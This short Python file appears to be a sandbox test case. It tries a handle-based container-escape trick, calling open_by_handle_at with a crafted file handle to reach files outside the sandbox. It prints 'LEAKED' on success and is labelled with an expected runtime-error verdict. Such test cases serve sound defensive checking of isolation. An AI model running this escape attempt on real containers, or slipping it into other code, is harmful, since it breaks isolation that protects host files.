"""Opens a file by its handle, not its path, as old container escapes did.

verdicts: RE
harm: leak LEAKED
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 136)
for descriptor in (-100, 0, 1, 2):
    opened = libc.open_by_handle_at(descriptor, handle, 0)
    if opened >= 0:
        print("LEAKED", opened)

raise RuntimeError("the attack is over")
